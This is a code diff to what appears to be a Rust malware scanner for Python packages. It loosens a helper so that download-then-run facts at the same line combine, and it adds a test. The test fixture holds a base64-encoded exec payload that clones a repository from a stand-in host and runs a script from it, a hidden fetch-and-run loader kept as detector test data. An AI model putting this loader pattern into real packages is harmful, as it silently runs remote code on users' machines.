@@ -528,13 +528,13 @@ impl Analyzer {
         for (path, facts) in &per_file_facts {
             // Same function (or both at the top level): drop, then run (a program started
             // before anything is downloaded cannot be the download).
-            let dropped = followed_by(&facts.download_to_file, &facts.run_program, false)
+            let dropped = followed_by(&facts.download_to_file, &facts.run_program)
                 .map(|f| (f, "downloads a file and runs a program"))
                 .or_else(|| {
-                    followed_by(&facts.download_to_file, &facts.load_code, false)
+                    followed_by(&facts.download_to_file, &facts.load_code)
                         .map(|f| (f, "downloads a file and loads code from where it wrote it"))
                 });
-            // A remote repository cloned, then a script started after it in the same function.
+            // A remote repository cloned, then a script started in the same function.
             // Not while installing: some sdists clone a dependency and run its generator to
             // build; at import and run time nothing builds.
             let cloned = followed_by(
@@ -543,7 +543,6 @@ impl Analyzer {
                     .iter()
                     .filter(|(_, _, scope, _)| scope.stage != Stage::Install),
                 &facts.run_script,
-                true,
             )
             .map(|f| (f, "clones a remote repository and runs a script"));
             for ((_, line, scope, snip), msg) in dropped.into_iter().chain(cloned) {
@@ -593,7 +592,7 @@ impl Analyzer {
                 ));
             }
             if let Some((_, line, scope, snip)) =
-                followed_by(&facts.decoded_to_file, &facts.run_program, false)
+                followed_by(&facts.decoded_to_file, &facts.run_program)
             {
                 let msg = "writes decoded data to disk and runs a program".to_string();
                 findings_extra.push(raw(
@@ -1314,16 +1313,12 @@ fn calls_of(data: &[u8], top_only: bool, calls: &mut HashSet<String>) {
 }
 
 /// The first of `first` that a fact of `then` follows in the same function (or both at the
-/// top level): at its line or after, or only after with `strictly`.
-fn followed_by<'a>(
-    first: impl IntoIterator<Item = &'a Fact>,
-    then: &[Fact],
-    strictly: bool,
-) -> Option<&'a Fact> {
-    first.into_iter().find(|(fid, line, ..)| {
-        then.iter()
-            .any(|(g, at, ..)| g == fid && (at > line || !strictly && at == line))
-    })
+/// top level), at its line or after. (Facts of a decoded or written layer all stand at the
+/// line that holds the layer, so inside a layer any order combines.)
+fn followed_by<'a>(first: impl IntoIterator<Item = &'a Fact>, then: &[Fact]) -> Option<&'a Fact> {
+    first
+        .into_iter()
+        .find(|(fid, line, ..)| then.iter().any(|(g, at, ..)| g == fid && at >= line))
 }
 
 /// Rule for a bundled binary, by extension or magic bytes.
@@ -1664,6 +1659,12 @@ mod tests {
             "import subprocess\nsubprocess.call(['python', 'a.py'])\nsubprocess.call(['git', 'clone', 'https://x.test/r', 'r'])\n",
         )];
         assert!(hit(&a, &before, "DL-WRITE-EXEC").is_none());
+        // Inside a decoded layer, where every fact stands at the line of the exec.
+        let layer = vec![pf(
+            "p-1/p/__init__.py",
+            "import base64\nexec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3MKc3VicHJvY2Vzcy5jYWxsKFsnZ2l0JywgJ2Nsb25lJywgJy1xJywgJ2h0dHBzOi8veC50ZXN0L3InLCAnL3RtcC9yJ10pCnN1YnByb2Nlc3MuY2FsbChbJ3B5dGhvbjMnLCAnL3RtcC9yL3J1bi5weSddKQo='))\n",
+        )];
+        assert!(hit(&a, &layer, "DL-WRITE-EXEC").is_some());
     }
 
     #[test]
